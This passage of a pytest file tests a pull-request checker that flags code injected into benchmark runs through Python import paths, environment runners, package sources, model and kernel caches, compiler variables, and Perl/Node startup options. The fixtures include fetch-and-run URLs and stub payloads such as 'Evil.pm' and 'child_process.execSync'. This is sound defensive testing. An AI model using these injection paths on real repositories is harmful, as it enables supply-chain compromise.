        ("export PYTHONPATH=.", PYLIB),  # the root: only its modules and packages count
        ("export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH", LIBRARY),
        ("LD_PRELOAD= vllm --help", LIBRARY),
        ("export HSA_TOOLS_LIB=librocprofiler64.so", LIBRARY),
        ('export NCCL_NET_PLUGIN="none"', LIBRARY),  # InferenceX's kimi-k3 recipes' setting
        (
            "export CUDA_INJECTION64_PATH=/usr/local/cuda/extras/CUPTI/lib64/libcupti.so",
            LIBRARY,
        ),
    ],
)
def test_a_path_variable_naming_nothing_the_pr_wrote_passes(check, line, added):
    parts = _parts(line, helper=None)
    add_changed_file(parts, added, "import os\n")
    _assert_passes(check, parts, ("no-arch-hacks", "spec-chat-template"))  # (a patch there)


# Python imports from its first path entry ahead of the standard library and everything
# installed: its program's directory, or the working directory for `-m`, `-c` and standard
# input. A module, package or bytecode file the PR puts there is what an import loads.
HERE = "benchmarks/single_node/fixed_seq_len"
FIRST_ENTRIES = [
    ("python3 -m sglang.launch_server --model-path x", "sglang/__init__.py", "the checkout's root"),
    ("python3 -c 'import json'", "json.py", "the checkout's root"),
    ("python3 - <<'EOF'\nprint(1)\nEOF", "typing.py", "the checkout's root"),
    ("python3 -Xdev -m x", "x.cpython-312-x86_64-linux-gnu.so", "the checkout's root"),
    ('cd "$(dirname "$0")" && python3 -m lm_eval --help', f"{HERE}/json.py", f"`{HERE}`"),
    ("python3 utils/bench_serving/benchmark_serving.py --use-chat-template", "utils/bench_serving/numpy.py",
     "`utils/bench_serving`"),
    ("timeout 60 python3 -u tools/x.py", "tools/__pycache__/json.cpython-312.pyc", "`tools`"),
    ('python3 "$ROOT/tools/x.py"', "tools/aiohttp/__init__.py", "`tools`"),
]  # fmt: skip


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added, entry", FIRST_ENTRIES)
def test_a_module_the_pr_puts_on_pythons_first_path_entry_fails(
    check, line, added, entry, check_id
):
    result = _failed_with_added(check, check_id, line, added, "import os\n")
    assert f"whose first import path entry is {entry}" in result.reason
    assert f"`{added}`, which this PR adds" in result.reason


# Launchers that start Python on a program file run that file, and import from its directory.
LAUNCHED = [
    ("accelerate launch --num_processes 8 tools/train.py", "tools/train.py"),
    ("deepspeed --num_gpus 8 tools/train.py --deepspeed ds.json", "tools/train.py"),
    ("python3 -m torch.distributed.run --nproc-per-node 2 tools/train.py", "tools/train.py"),
    ('accelerate launch "$(dirname "$0")/train.py"', f"{HERE}/train.py"),
    ("torchrun --nproc-per-node 8 tools/train.py", "tools/json.py"),
    ("accelerate launch tools/train.py", "tools/__pycache__/json.cpython-312.pyc"),
]


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added", LAUNCHED)
def test_a_python_program_a_launcher_runs_counts_with_its_directory(check, line, added, check_id):
    result = _failed_with_added(check, check_id, line, added, "import os\n")
    assert f"`{added}`, which this PR adds" in result.reason or (
        f"which this PR adds (`{added}`)" in result.reason
    )


@pytest.mark.parametrize(
    "line, added",
    [
        ("python3 -I -c 'import json'", "json.py"),  # isolated: no first entry
        ("python3 -P -m x", "x.py"),  # safe path
        ("python3 -sP -u -m x", "x.py"),
        ("python3 utils/bench_serving/benchmark_serving.py", "utils/bench_serving/README.md"),
        ("python3 utils/evals/score.py", "utils/evals/test_score.py"),  # pytest's, not imported
        ("python3 -m sglang.launch_server", "sglang/launch_server.py"),  # not a package
        ("python3 -c 'print(1)'", f"{HERE}/tool.py"),  # not the working directory
        ('python3 "$TOOL"', "json.py"),  # its directory is known only at run time
        ("docker run --rm img python3 -c 'print(1)'", "json.py"),  # another machine's
        ("accelerate launch --help", "json.py"),  # runs no program file
        ("deepspeed --version", "json.py"),
    ],
)
def test_a_file_off_pythons_first_path_entry_passes(check, line, added):
    parts = _parts(line, helper=None)
    add_changed_file(parts, added, "import os\n")
    for check_id in ("no-arch-hacks", "spec-chat-template"):
        assert "first import path entry" not in check(parts, check_id).reason


@pytest.mark.parametrize("check_id", CHECKS)
def test_a_program_deno_fetches_from_a_url_fails_closed(check, check_id):
    result = check(_beside_the_server("deno run -A https://example.com/patch.ts"), check_id)
    assert result.status == "FAIL", result.reason
    assert "deno runs a program fetched from https://example.com/patch.ts" in result.reason


# Environment runners start a command in the environment they manage: the command is read as
# if written alone (`uv run x.py` is `python x.py`), wherever their options put it.
ENVIRONMENT_RUNS = [
    ("uv run python tools/x.py", "tools/x.py"),
    ("uv run tools/x.py", "tools/x.py"),
    ("uv run --no-project --python 3.12 -- python3 tools/x.py", "tools/x.py"),
    ("uv --quiet run --with-requirements r.txt --frozen bash tools/x.sh", "tools/x.sh"),
    ("uv run --script tools/x", "tools/x"),
    ("uv run -m tools.x --port 1", "tools/x.py"),
    ("uv run -p3.12 -qq tools/x.py", "tools/x.py"),
    ("uv run --directory tools python3 x.py", "tools/x.py"),
    ("poetry run python tools/x.py", "tools/x.py"),
    ("poetry -C tools run python x.py", "tools/x.py"),
    ("pdm run -v python tools/x.py", "tools/x.py"),
    ("pipenv run python tools/x.py", "tools/x.py"),
    ("hatch run test:python tools/x.py", "tools/x.py"),
    ("hatch -e test run tools/x.py", "tools/x.py"),
    ("rye run python tools/x.py", "tools/x.py"),
    ("pixi run --frozen python tools/x.py", "tools/x.py"),
    ("conda run -n bench --no-capture-output python tools/x.py", "tools/x.py"),
    ("micromamba run --cwd tools -n bench python x.py", "tools/x.py"),
    ("timeout 600 uv run python tools/x.py", "tools/x.py"),
    ("env A=1 poetry run bash -c 'python3 tools/x.py'", "tools/x.py"),
    ("uv run python tools/train.py", "tools/json.py"),  # its first import path entry
]


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added", ENVIRONMENT_RUNS)
def test_the_command_an_environment_runner_starts_is_read_as_if_written_alone(
    check, line, added, check_id
):
    result = _failed_with_added(check, check_id, line, added, "import os\n")
    assert added in result.reason


@pytest.mark.parametrize(
    "line",
    [
        "uv run --no-such-option x python3 -c 'print(1)'",  # where its command starts
        "conda run -e A=1 python3 -c 'print(1)'",
        "uv run https://example.com/x.py",  # a script it downloads
    ],
)
def test_an_environment_runner_whose_command_cannot_be_placed_fails_closed(check, line):
    parts = _parts(line, helper=None)
    for check_id in ("no-arch-hacks", "spec-chat-template"):
        result = check(parts, check_id)
        assert result.status == "FAIL", (check_id, result.reason)


@pytest.mark.parametrize(
    "line, added",
    [
        ("uv run --env-file tools/bench.env python3 -c 'print(1)'", "tools/bench.env"),
        ("pipenv run python3 -c 'print(1)'", ".env"),  # pipenv loads the project's `.env`
        ("pdm run bench", "pyproject.toml"),  # a script the project's manifest defines
        ("poetry run bench", "pyproject.toml"),
    ],
)
def test_the_files_an_environment_runner_loads_count(check, line, added):
    for check_id in ("no-arch-hacks", "spec-chat-template"):
        result = _failed_with_added(check, check_id, line, added, "PYTHONPATH=tools\n")
        assert added in result.reason


@pytest.mark.parametrize(
    "line",
    [
        "uv run python3 tools/x.py",  # the program is the repository's own
        "conda run -n bench python3 -c 'print(1)'",
        "poetry install --no-root",  # no command started
        "uv run --no-project -- python3 -c 'print(1)'",
    ],
)
def test_an_environment_runner_of_unchanged_files_passes(check, line):
    parts = _parts(line, helper=None)
    add_changed_file(parts, "docs/y.py", "import os\n")
    _assert_passes(check, parts, ("no-arch-hacks", "spec-chat-template"))


FORK_LIST = "vllm @ git+https://github.com/x/vllm@fork\n"


@pytest.mark.parametrize(
    "line",
    [
        "uv run --with-requirements tools/req.txt python3 -c 'print(1)'",
        "uvx --with-requirements=tools/req.txt ruff check .",
        "uv add -r tools/req.txt",
        "uv tool install aiperf --overrides tools/req.txt",
        "uv pip install vllm --overrides tools/req.txt",
        "uv pip install --constraints=tools/req.txt vllm",
    ],
)
def test_a_package_list_uv_installs_from_counts(check, line):
    result = _failed_with_added(check, "engine-patches", line, "tools/req.txt", FORK_LIST)
    assert "(`tools/req.txt`)" in result.reason


def test_a_list_option_after_the_program_uv_runs_is_the_programs(check):
    parts = _parts("uv run python3 -c 'print(1)' -r tools/req.txt", helper=None)
    add_changed_file(parts, "tools/req.txt", FORK_LIST)
    _assert_passes(check, parts, ("engine-patches",))


# A program signoff has no rule for that is handed a command line runs it, as a wrapper does
# (profilers, tracers, init shims, user switchers); one that runs Python on a file it is
# handed (test runners, profilers, app servers) runs that file.
UNKNOWN_RUNNERS = [
    "nsys profile -o /tmp/p --trace cuda python3 tools/x.py",
    "strace -f -o /tmp/s python3 tools/x.py",
    "perf record -g -- python3 tools/x.py",
    "py-spy record -o p.svg -- python3 tools/x.py",
    "rocprofv3 --kernel-trace -- python3 tools/x.py",
    "runuser -u bench -- python3 tools/x.py",
    "gosu bench python3 tools/x.py",
    "tini -- tools/x.py",
    "chroot / python3 tools/x.py",
    "xvfb-run python3 tools/x.py",
    "coverage run tools/x.py",
    "python3 -m cProfile -o p.out tools/x.py",
    "python3 -m pdb tools/x.py",
    "pytest -x tools/x.py",
    "streamlit run tools/x.py",
    "uvicorn tools.x:app --port 8000",
    "celery -A tools.x:app worker",
    "snakemake -s tools/x.py",
    "jupyter nbconvert --execute --to notebook tools/x.ipynb",
    "mytool --job=tools/x.sh",
    "nsys profile -t cuda python3 -m tools.x",
]


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line", UNKNOWN_RUNNERS)
def test_a_program_handed_a_command_or_a_program_file_runs_it(check, line, check_id):
    added = "tools/x.ipynb" if ".ipynb" in line else "tools/x.sh" if ".sh" in line else "tools/x.py"
    result = _failed_with_added(check, check_id, line, added, "import os\n")
    assert added in result.reason


@pytest.mark.parametrize(
    "line",
    [
        "cp tools/x.py /tmp/x.py",  # a file tool: its operands are data
        "git add tools/x.py",
        "grep -c python3 tools/x.py",
        "sha256sum tools/x.py",
        "apt-get install -y python3 python3-pip",
        "ln -sf /usr/bin/python3 /usr/local/bin/python",
        "uv venv --seed --python /usr/bin/python3",  # an interpreter named, not run
        "mytool --python python3",
        "curl -fsSL -o tools/x.sh https://example.com/x.sh",
    ],
)
def test_a_program_handed_files_as_data_does_not_run_them(check, line):
    parts = _parts(line, helper=None)
    add_changed_file(parts, "tools/x.py", "import os\n")
    add_changed_file(parts, "tools/x.sh", "echo hi\n")
    result = check(parts, "no-arch-hacks")
    assert "tools/x." not in result.reason, result.reason


@pytest.mark.parametrize("check_id", CHECKS)
def test_a_program_file_handed_to_an_unchanged_program_counts(check, check_id):
    line = "python3 utils/collect_results.py --plugin tools/x.py"
    result = _failed_with_added(check, check_id, line, "tools/x.py", "import os\n")
    assert "tools/x.py" in result.reason


# Files Python runs that no program operand names: an inline program's dotted imports (a
# namespace package from the working directory too) and the program files its strings name,
# a launcher's module, a file a name pattern matches, and an interactive start-up file.
INLINE_AND_PATTERN_RUNS = [
    ("python3 -c 'import tools.x'", "tools/x.py"),
    ("python3 -c 'from tools.x import main; main()'", "tools/x.py"),
    ("python3 -c \"exec(open('tools/x.py').read())\"", "tools/x.py"),
    ("python3 -c \"import runpy; runpy.run_path('tools/x.py')\"", "tools/x.py"),
    ("torchrun --nproc-per-node 2 -m tools.x", "tools/x.py"),
    ("deepspeed --num_gpus 8 --module tools.x", "tools/x.py"),
    ("accelerate launch -m tools.x", "tools/x.py"),
    ("python3 -m torch.distributed.run --nproc-per-node 2 -m tools.x", "tools/x.py"),
    ("bash tools/*.sh", "tools/x.sh"),
    ('for f in tools/*.sh; do bash "$f"; done', "tools/x.sh"),
    ("bash tools/[x].sh", "tools/x.sh"),
    ("bash tools/[^y].sh", "tools/x.sh"),  # bash's `^` negation, as `!`
    ("PYTHONSTARTUP=tools/x.py python3 -i -c 1", "tools/x.py"),
    ("cp tools/x.py /usr/local/bin/x && x", "tools/x.py"),  # a copy run by its bare name
]
# Python's import path as an inline program sets it, and the imports it makes by a string
IMPORT_PATH_RUNS = [
    ("python3 -c 'import sys; sys.path.insert(0, \"tools\"); import x'", "tools/x.py"),
    ("python3 -c 'import sys; sys.path[:0] = [\"tools\"]; import x'", "tools/x.py"),
    ("python3 -c 'import sys; sys.path += [\"tools\"]; import x'", "tools/x.py"),
    ("python3 -c 'import site; site.addsitedir(\"tools\")'", "tools/x.py"),
    ("python3 -c 'import sys; sys.path.append(sys.argv[1]); import x' tools", "tools/x.py"),
    (
        "python3 - tools <<'PY'\nimport sys\nsys.path.insert(0, sys.argv[1])\nimport x\nPY",
        "tools/x.py",
    ),
    ("python3 -c 'import importlib; importlib.import_module(\"tools.x\")'", "tools/x.py"),
    ("python3 -c '__import__(\"tools.x\")'", "tools/x.py"),
]
# Where an install takes its packages from, by option or by variable: a directory of packages
# (find-links), uv's project, files of packages or settings, a project pip or a PEP 517 front
# end builds, a `file:` direct reference
WHEEL = "tools/wheels/aiperf-9.9-py3-none-any.whl"
PACKAGE_SOURCES = [
    ("pip install --find-links tools/wheels aiperf", WHEEL),
    ("uv pip install -f tools/wheels aiperf", WHEEL),
    ("uv run --find-links=tools/wheels --with aiperf python3 -c 1", WHEEL),
    ("PIP_FIND_LINKS=tools/wheels pip install aiperf", WHEEL),
    ("export UV_FIND_LINKS=/opt/w,tools/wheels", WHEEL),
    ('export UV_FIND_LINKS="$WHEELS,/workspace/tools/wheels"', WHEEL),  # split where known
    ('export PIP_FIND_LINKS="/opt/w ${ROOT:-/workspace}/tools/wheels"', WHEEL),
    ("pip install --find-links file:///workspace/tools/wheels aiperf", WHEEL),
    ("PIP_FIND_LINKS=file:///workspace/tools/wheels pip install aiperf", WHEEL),
    ("UV_PROJECT=tools uv run python3 -c 1", "tools/setup.py"),
    ("export UV_WORKING_DIR=tools", "tools/setup.py"),
    ("UV_OVERRIDE='/opt/o.txt tools/o.txt' uv pip install aiperf", "tools/o.txt"),
    ("PIP_REQUIREMENT=tools/r.txt pip install", "tools/r.txt"),
    ("export PIP_CONSTRAINT=tools/c.txt", "tools/c.txt"),
    ("UV_CONFIG_FILE=tools/uv.toml uv pip install aiperf", "tools/uv.toml"),
    ("PIP_CONFIG_FILE=tools/pip.conf pip install aiperf", "tools/pip.conf"),
    ("pip wheel tools/pkg -w /tmp/w", "tools/pkg/setup.py"),
    ("pip download tools/pkg -d /tmp/d", "tools/pkg/setup.py"),
    ("python3 -m build tools/pkg", "tools/pkg/setup.py"),
    ("cd tools/pkg && pyproject-build", "tools/pkg/setup.py"),
    ("uv build tools/pkg", "tools/pkg/setup.py"),
    ("pip install 'aiperf @ file:///workspace/tools/pkg'", "tools/pkg/setup.py"),
    ("pip install file:tools/pkg", "tools/pkg/setup.py"),
]
# Directories the engine loads models, their code or compiled kernels from, by variable: a
# model config the PR puts in a Hugging Face cache is the model the engine serves
HUB = "benchmarks/single_node/fixed_seq_len/hub"
SNAPSHOT = "models--deepseek-ai--DeepSeek-V4-Pro/snapshots/0123abcd/config.json"
CACHE_DIRECTORIES = [
    ('export HF_HUB_CACHE="$(dirname "$0")/hub"', f"{HUB}/{SNAPSHOT}"),
    ('HF_HOME="$(dirname "$0")/hub" vllm serve "$MODEL" --port 1 &', f"{HUB}/hub/{SNAPSHOT}"),
    ('export HUGGINGFACE_HUB_CACHE="$(dirname "$0")/hub"', f"{HUB}/{SNAPSHOT}"),
    ('export HF_MODULES_CACHE="$(dirname "$0")/hub"', f"{HUB}/transformers_modules/m/x.py"),
    ('export TRITON_CACHE_DIR="$(dirname "$0")/hub"', f"{HUB}/abc/kernel.cubin"),
    ('export XDG_CACHE_HOME="$(dirname "$0")/hub"', f"{HUB}/vllm/torch_compile_cache/x.py"),
    ('export HOME="$(dirname "$0")/hub"', f"{HUB}/.cache/huggingface/hub/{SNAPSHOT}"),
    (
        "export TORCHINDUCTOR_CACHE_DIR=/workspace/benchmarks/single_node/fixed_seq_len/hub",
        f"{HUB}/fx/x.py",
    ),
]
# Kernel caches the engine loads compiled kernels from (DeepGEMM, TVM FFI), by variable
KERNEL_CACHES = [
    ('export DG_JIT_CACHE_DIR="$(dirname "$0")/hub"', f"{HUB}/kernel.cubin"),
    ('export SGLANG_DG_CACHE_DIR="$(dirname "$0")/hub"', f"{HUB}/cache/kernel.so"),
    ('export TVM_FFI_CACHE_DIR="$(dirname "$0")/hub"', f"{HUB}/x/lib.so"),
    ("export HOME=/workspace", ".deep_gemm/cache/kernel.cubin"),  # DeepGEMM's default cache
    (
        'export TRITON_KERNEL_OVERRIDE=1 TRITON_OVERRIDE_DIR="$(dirname "$0")/hub"',
        f"{HUB}/_fwd_kernel/_fwd_kernel.ptx",
    ),
    ('export TRITON_HOME="$(dirname "$0")/hub"', f"{HUB}/.triton/cache/abc/k.cubin"),
]
# Compilers, tools and toolkits the engine's just-in-time kernel builds run or link, by variable
TOOLCHAINS = [
    ('export CC="$(dirname "$0")/cc"', f"{HUB[:-4]}/cc"),
    ('export CC="ccache $(dirname "$0")/cc"', f"{HUB[:-4]}/cc"),
    ('CXX="$(dirname "$0")/cxx" vllm serve "$MODEL" --port 1 &', f"{HUB[:-4]}/cxx"),
    ('export CUDACXX="$(dirname "$0")/hub/nvcc"', f"{HUB}/nvcc"),
    ('export DG_JIT_NVCC_COMPILER="$(dirname "$0")/hub/nvcc"', f"{HUB}/nvcc"),
    ('export TRITON_PTXAS_PATH="$(dirname "$0")/hub/ptxas"', f"{HUB}/ptxas"),
    ('export TRITON_LIBCUDA_PATH="$(dirname "$0")/hub"', f"{HUB}/libcuda.so.1"),
    ('export CUDA_HOME="$(dirname "$0")/hub"', f"{HUB}/bin/nvcc"),
    ("export ROCM_PATH=/workspace/benchmarks/single_node/fixed_seq_len/hub", f"{HUB}/bin/hipcc"),
]
# Files inside a submodule the PR points at another commit: the PR chose their text
SUBMODULE = "utils/trace-replay"
GITLINK = (
    "@@ -1 +1 @@\n-Subproject commit 754356e9a39acc6cc6afb242d123bb57c3fb6f75\n"
    "+Subproject commit 1111111111111111111111111111111111111111"
)
IN_SUBMODULE = [
    "python3 /workspace/utils/trace-replay/tools/x.py",
    "bash utils/trace-replay/scripts/run.sh",
    "cd utils/trace-replay && ./run.sh --port 1",
    'bash "$ROOT/utils/trace-replay/run.sh"',
    "pip install -e /workspace/utils/trace-replay",
    'export PYTHONPATH="/workspace/utils/trace-replay/lib:$PYTHONPATH"',
    "PYTHONPATH=/workspace/utils/trace-replay/src python3 -m replay",
]


def _moving_submodule(parts: dict, path: str = SUBMODULE) -> dict:
    parts["changed_files"].append({"path": path, "status": "modified", "patch": GITLINK})
    return parts


# A path a fallback names when its variable is unset: `${PKG:-$(dirname "$0")/pkg}`
FALLBACKS = [
    ('pip install -e "${PKG_DIR:-$(dirname "$0")/hub}"', f"{HUB}/setup.py"),
    ('PKG_DIR="${PKG_DIR:-$(dirname "$0")/hub}"\npip install -e "$PKG_DIR"', f"{HUB}/setup.py"),
    (
        'pip install -e "${PKG_DIR:-${WS}/benchmarks/single_node/fixed_seq_len/hub}"',
        f"{HUB}/setup.py",
    ),
    ('export PYTHONPATH="${PP:-$(dirname "$0")/hub}"', f"{HUB}/vllm/__init__.py"),
    ('export HF_HUB_CACHE="${HF_HUB_CACHE:-$(dirname "$0")/hub}"', f"{HUB}/{SNAPSHOT}"),
    ('export CUDA_HOME="${CUDA_HOME:-${ROOT:-$(dirname "$0")/hub}}"', f"{HUB}/bin/nvcc"),
]
# Module paths of the interpreters signoff does not read (Perl, Ruby, Node.js), by variable, and
# the `-I` directories of their option variables
INTERPRETER_MODULE_PATHS = [
    ('export PERL5LIB="/usr/share/perl5:$(dirname "$0")/hub"', f"{HUB}/Evil.pm"),
    ('export PERLLIB="$(dirname "$0")/hub"', f"{HUB}/Evil.pm"),
    ('export PERL5OPT="-I$(dirname "$0")/hub -MEvil"', f"{HUB}/Evil.pm"),
    ('export PERL5OPT="-w -I /workspace/benchmarks/single_node/fixed_seq_len/hub"', f"{HUB}/E.pm"),
    ("export RUBYLIB=/workspace/benchmarks/single_node/fixed_seq_len/hub", f"{HUB}/evil.rb"),
    ('export RUBYOPT="-I$(dirname "$0")/hub"', f"{HUB}/evil.rb"),
    ('NODE_PATH="$(dirname "$0")/hub" npx some-tool', f"{HUB}/some-tool/index.js"),
    ('export GEM_HOME="$(dirname "$0")/hub"', f"{HUB}/gems/x-1.0/lib/x.rb"),
    ('export PERL5LIB+=":$(dirname "$0")/hub"', f"{HUB}/Evil.pm"),
    ('X="$(dirname "$0")/hub"; export PERL5OPT="-I $X -MEvil"', f"{HUB}/Evil.pm"),
]
# Files the interpreters' option variables have every later program load and run first, by
# variable
INTERPRETER_STARTUP_FILES = [
    ('export NODE_OPTIONS="--require $(dirname "$0")/hub/x.js"', f"{HUB}/x.js", "NODE_OPTIONS"),
    (
        'export NODE_OPTIONS="--max-old-space-size=8192 -r ./hub/x.js"',
        f"{HUB}/x.js",
        "NODE_OPTIONS",
    ),
    ('export NODE_OPTIONS="--import=$(dirname "$0")/hub/x.mjs"', f"{HUB}/x.mjs", "NODE_OPTIONS"),
    ('export NODE_OPTIONS="--require=$(dirname "$0")/hub/x.js"', f"{HUB}/x.js", "NODE_OPTIONS"),
    ('export NODE_OPTIONS="--loader $(dirname "$0")/hub/l.mjs"', f"{HUB}/l.mjs", "NODE_OPTIONS"),
    ('export RUBYOPT="-r$(dirname "$0")/hub/x.rb"', f"{HUB}/x.rb", "RUBYOPT"),
]
# Another hub than Hugging Face's for the model the entry names (its config, code and weights)
MODEL_SOURCES = [
    "export HF_ENDPOINT=https://hf-mirror.example.com",
    'HF_ENDPOINT=https://hf-mirror.example.com hf download "$MODEL"',
    'export HF_ENDPOINT="$(cat "$(dirname "$0")/endpoint")"',
    "export VLLM_USE_MODELSCOPE=True",
    'export SGLANG_USE_MODELSCOPE="${SGLANG_USE_MODELSCOPE:-true}"',
]
# Programs that run a file an option or operand names, and task runners' files
TASK_AND_PROGRAM_FILES = [
    ("flock /tmp/lock bash tools/x.sh", "tools/x.sh"),  # flock's first operand is its lock
    ("flock -w 5 /tmp/lock timeout 60 bash tools/x.sh", "tools/x.sh"),
    ("node -r ./tools/x.js -e 1", "tools/x.js"),
    ("node --import=./tools/x.mjs app.js", "tools/x.mjs"),
    ("cmake -P tools/x.cmake", "tools/x.cmake"),
    ("ansible-playbook -i localhost, tools/site.yml", "tools/site.yml"),
    ("just --justfile tools/justfile build", "tools/justfile"),
    ("cd tools && just build", "tools/justfile"),
    ("tox -c tools/tox.ini -e py", "tools/tox.ini"),
    ("cd tools && tox", "tools/tox.ini"),
    ("cd tools && nox -s bench", "tools/noxfile.py"),
    # ninja runs build.ninja's commands, read in `-C DIR`
    ("ninja -C tools/b", "tools/b/build.ninja"),
    ('ninja -C "$(dirname "$0")/../../../tools/b" -f x.ninja', "tools/b/x.ninja"),
    ("ninja -Ctools/b install", "tools/b/build.ninja"),
    ("cd tools/b && samu", "tools/b/build.ninja"),
]


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added", INLINE_AND_PATTERN_RUNS)
def test_a_file_python_or_a_pattern_reaches_counts(check, line, added, check_id):
    result = _failed_with_added(check, check_id, line, added, "import os\n")
    assert added in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added", IMPORT_PATH_RUNS)
def test_a_directory_an_inline_program_puts_on_its_import_path_counts(check, line, added, check_id):
    result = _failed_with_added(check, check_id, line, added, "import os\n")
    assert added in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added", PACKAGE_SOURCES)
def test_a_package_source_holding_a_file_the_pr_adds_counts(check, line, added, check_id):
    result = _failed_with_added(check, check_id, line, added, "import os\n")
    assert added in result.reason


@pytest.mark.parametrize(
    "line",
    [
        "pip install -f https://download.pytorch.org/whl/torch_stable.html torch",
        "PIP_CONFIG_FILE=/dev/null pip install aiperf",
        "pip download aiperf -d tools/wheels",  # where it saves, not what it builds
        "pip wheel aiperf --wheel-dir tools/wheels",
        "cd /tmp/src && python3 -m build",
        "export UV_PROJECT=/opt/project",
    ],
)
def test_a_package_source_outside_what_the_pr_changed_counts_for_nothing(check, line):
    parts = _parts(line, helper=None)
    for path in (WHEEL, "tools/setup.py"):
        add_changed_file(parts, path, "import os\n")
    _assert_passes(check, parts, ("no-arch-hacks", "spec-chat-template"))  # (engine-patches:
    # an index the profile does not trust, a config that may name one)


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added", CACHE_DIRECTORIES)
def test_a_cache_directory_holding_a_file_the_pr_adds_counts(check, line, added, check_id):
    result = _failed_with_added(check, check_id, line, added, '{"num_hidden_layers": 2}\n')
    assert added in result.reason or f"{HUB}" in result.reason, result.reason


@pytest.mark.parametrize(
    "line",
    [
        "export HF_HUB_CACHE=/mnt/hf_hub_cache",
        'export TRITON_CACHE_DIR="/tmp/triton-cache-$JOB_ID"',
        'export HF_HOME="$cache/.hf-home"',
        'export XDG_CACHE_HOME="$compute_home/.cache"',
        "export HOME=$(mktemp -d)",
        "export VLLM_CACHE_ROOT=/it-share/gharunners/.cache/vllm",
        "export TRITON_KERNEL_OVERRIDE=1 TRITON_OVERRIDE_DIR=/tmp/triton_override_dir",
        'export TRITON_HOME="${TRITON_HOME:-/tmp}"',
    ],
)
def test_a_cache_directory_outside_what_the_pr_changed_counts_for_nothing(check, line):
    _assert_passes_beside(check, line, (f"{HUB}/{SNAPSHOT}",), "{}\n")


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added", KERNEL_CACHES)
def test_a_kernel_cache_holding_a_file_the_pr_adds_counts(check, line, added, check_id):
    result = _failed_with_added(check, check_id, line, added, "\x7fELF\n")
    assert "load models, their code or compiled kernels" in result.reason, result.reason
    assert added in result.reason, result.reason


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added", TOOLCHAINS)
def test_a_compiler_or_toolkit_the_pr_adds_counts(check, line, added, check_id):
    result = _failed_with_added(check, check_id, line, added, '#!/bin/sh\nexec gcc "$@"\n')
    assert "just-in-time kernel builds" in result.reason, result.reason
    assert "signoff does not read the programs run or the code linked from there" in result.reason
    assert added in result.reason, result.reason


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added", INTERPRETER_MODULE_PATHS)
def test_an_interpreter_module_path_holding_a_file_the_pr_adds_counts(check, line, added, check_id):
    result = _failed_with_added(check, check_id, line, added, "package Evil; system('x');\n1;\n")
    assert "every Perl, Ruby or Node.js program started later loads modules" in result.reason
    assert "signoff does not read Perl, Ruby or Node.js modules" in result.reason
    assert added in result.reason, result.reason


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added, variable", INTERPRETER_STARTUP_FILES)
def test_a_file_an_interpreter_option_variable_loads_first_counts(
    check, line, added, variable, check_id
):
    parts = _parts(line.replace("./hub", "benchmarks/single_node/fixed_seq_len/hub"), helper=None)
    add_changed_file(parts, added, "require('child_process').execSync('x');\n")
    result = check(parts, check_id)
    assert result.status == "FAIL", result.reason
    assert f"runs `{variable}=" in result.reason, result.reason
    assert f"which this PR adds (`{added}`)" in result.reason, result.reason


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line", MODEL_SOURCES)
def test_a_model_fetched_from_another_hub_is_unverified(check, line, check_id):
    result = check(_parts(line, helper=None), check_id)
    assert result.status == "FAIL", result.reason
    assert "signoff cannot tell it is the same model" in result.reason, result.reason


@pytest.mark.parametrize(
    "line",
    [
        "export HF_ENDPOINT=https://huggingface.co",  # InferenceX's mi300x launcher's line
        'export HF_ENDPOINT="${HF_ENDPOINT:-}"',
        "export VLLM_USE_MODELSCOPE=False",
        "SGLANG_USE_MODELSCOPE=0",
    ],
)
def test_hugging_face_hub_as_the_model_source_passes(check, line):
    _assert_passes_beside(check, line, (f"{HUB}/notes.md",))


@pytest.mark.parametrize(
    "line",
    [
        "perl -pi -e 's/ERR/err/' /tmp/x.log",
        "perl -i -pe 'y/a-z/A-Z/' /tmp/x.log",
        "perl -0777 -pi -e 's/a\\nb/c/g' /tmp/x.log",
        "perl -w -n -i.bak -e 's/a/b/' /tmp/x.log",
    ],
)
def test_a_plain_perl_edit_runs_no_program_file(check, line):
    """Perl's `-e` (at the end of a cluster, `-pe`) gives the program inline: a plain
    substitution is an edit, and the word after `-e` is no program file of any name."""
    _assert_passes_beside(check, line, (f"{HUB}/notes.md",))


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize(
    "line", ["perl -w benchmarks/x.pl", "perl -I lib -Mstrict benchmarks/x.pl"]
)
def test_a_perl_program_file_the_pr_adds_still_counts(check, line, check_id):
    result = _failed_with_added(check, check_id, line, "benchmarks/x.pl", "system('x');\n")
    assert "which this PR adds (`benchmarks/x.pl`)" in result.reason, result.reason


@pytest.mark.parametrize(
    "line",
    [
        "export NODE_OPTIONS=--max-old-space-size=8192",
        'export NODE_OPTIONS="$NODE_OPTIONS --max-old-space-size=8192 --require dotenv/config"',
        'export NODE_OPTIONS="${NODE_OPTIONS:-} --max-old-space-size=4096"',
        'export PERL5LIB="$HOME/perl5/lib/perl5${PERL5LIB:+:${PERL5LIB}}"',
        "export PERL5LIB=/usr/share/perl5:/usr/local/lib/perl5",
        "export PERL5OPT=-w",
        'export RUBYOPT="-rjson -W0"',
        "export GEM_HOME=/opt/gems",
    ],
)
def test_an_interpreter_setting_outside_what_the_pr_changed_counts_for_nothing(check, line):
    _assert_passes_beside(check, line, (f"{HUB}/Evil.pm", f"{HUB}/x.js", "dotenv/config.js"))


@pytest.mark.parametrize(
    "line",
    [
        'ROCM_PATH="${ROCM_PATH:-/opt/rocm}"\nexport ROCM_PATH="${ROCM_PATH}"',
        "export CXX=hipcc",
        'export CC="ccache gcc"',
        "export CUDA_HOME=/usr/local/cuda",
        'export CUDA_HOME="$cuda_home"',
